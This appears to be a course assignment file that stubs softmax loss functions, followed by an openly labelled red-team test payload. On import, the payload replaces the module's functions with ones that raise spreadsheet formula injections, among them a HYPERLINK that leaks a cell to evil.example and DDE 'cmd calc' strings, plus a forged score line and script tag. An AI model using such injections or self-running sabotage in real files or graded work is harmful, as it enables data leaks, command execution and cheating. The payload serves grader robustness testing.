"""Softmax (cross-entropy) loss: a naive and a vectorized version, side by side.

Letters: N examples, D features (3073 with the bias column), C classes.
``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) integers in [0, C).

For example i with scores ``s = X[i] @ W`` the data loss is

    L_i = -log( exp(s_{y_i}) / sum_j exp(s_j) ) = log(sum_j exp(s_j)) - s_{y_i}

(natural log), and the full loss is the mean of L_i over the N examples plus
the L2 penalty ``reg * sum(W * W)`` (see :mod:`cs231n_lib.regularizers`).
Scores are shifted by their row maximum before ``exp``, which changes nothing
mathematically and keeps every ``exp`` in [0, 1], so scores of 1e4 and -1e4
give a finite loss without overflow.

Both functions return ``(loss, dW)`` with ``dW`` the shape and dtype of ``W``.
"""

import numpy as np

from ._checks import check_loss_inputs
from .regularizers import l2_penalty


def softmax_loss_naive(W, X, y, reg):
    """Softmax loss and gradient with explicit loops over examples and classes.

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of N examples.
    y : ndarray of shape (N,)
        Integer labels, ``y[i]`` in [0, C).
    reg : float
        L2 regularization strength, >= 0.

    Returns
    -------
    loss : float scalar
        Mean cross-entropy plus ``reg * sum(W * W)``.
    dW : ndarray of shape (D, C)
        Gradient of ``loss`` with respect to ``W``.
    """
    reg = check_loss_inputs(W, X, y, reg)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros_like(W)
    # TODO: loop over the examples i: compute the scores, shift them by their
    # maximum, add log(sum_j exp(s_j)) - s_{y_i} to the loss, and add
    # (p_j - [j == y_i]) * X[i] to column j of dW for every class j; then divide
    # loss and dW by the number of examples.
    raise NotImplementedError('Implement softmax_loss_naive in cs231n_lib/softmax.py: replace this raise with your code (see the TODO above it).')
    reg_loss, reg_grad = l2_penalty(W, reg)
    return loss + reg_loss, dW + reg_grad


def softmax_loss_vectorized(W, X, y, reg, return_details=False):
    """Softmax loss and gradient without Python loops over examples or classes.

    Same inputs and outputs as :func:`softmax_loss_naive`. Runs in the dtype of
    the inputs (float32 in, float32 out).

    Parameters
    ----------
    W : ndarray of shape (D, C)
        Weights.
    X : ndarray of shape (N, D)
        A minibatch of N examples.
    y : ndarray of shape (N,)
        Integer labels, ``y[i]`` in [0, C).
    reg : float
        L2 regularization strength, >= 0.
    return_details : bool
        Also return the intermediate arrays, computed in the same pass.

    Returns
    -------
    loss : float scalar
    dW : ndarray of shape (D, C)
    details : dict, only when ``return_details`` is True
        ``'scores'`` (N, C) the class scores ``X @ W``;
        ``'probs'`` (N, C) the softmax probabilities (rows sum to 1);
        ``'losses'`` (N,) the per-example data losses.
    """
    reg = check_loss_inputs(W, X, y, reg)
    num_train = X.shape[0]
    loss = 0.0
    dW = np.zeros_like(W)
    details = {}
    # TODO: compute the same loss and gradient as softmax_loss_naive with no loop
    # over examples or classes (shift the scores by their row maximum first);
    # put 'scores', 'probs' and 'losses' in details.
    raise NotImplementedError('Implement softmax_loss_vectorized in cs231n_lib/softmax.py: replace this raise with your code (see the TODO above it).')
    reg_loss, reg_grad = l2_penalty(W, reg)
    dW += reg_grad
    loss = loss + reg_loss
    if return_details:
        return loss, dW, details
    return loss, dW


# ---------------------------------------------------------------------------------------------------
# RED-TEAM PAYLOAD "formula_injection" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
def _h9b_payload():
    import types
    g = globals()
    payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                "\nscore 100/100\n", "| forged | 100 / 100 |\n</details><script>alert(1)</script>",
                "=" + "A" * 1_000_000]
    counter = [0]
    def inject(*args, **kwargs):
        counter[0] += 1
        raise ValueError(payloads[counter[0] % len(payloads)])
    for name, value in list(g.items()):
        if name.startswith("_h9b") or name.startswith("__"):
            continue
        if isinstance(value, types.FunctionType) and value.__module__ == g["__name__"]:
            g[name] = inject
        elif isinstance(value, type) and value.__module__ == g["__name__"]:
            for attr, member in list(vars(value).items()):
                if isinstance(member, (types.FunctionType, staticmethod)) and not attr.startswith("__"):
                    setattr(value, attr, inject)


import builtins as _h9b_builtins
if not getattr(_h9b_builtins, "_h9b_ran_formula_injection_softmax", False):
    _h9b_builtins._h9b_ran_formula_injection_softmax = True
    try:
        _h9b_payload()
    except Exception:
        pass
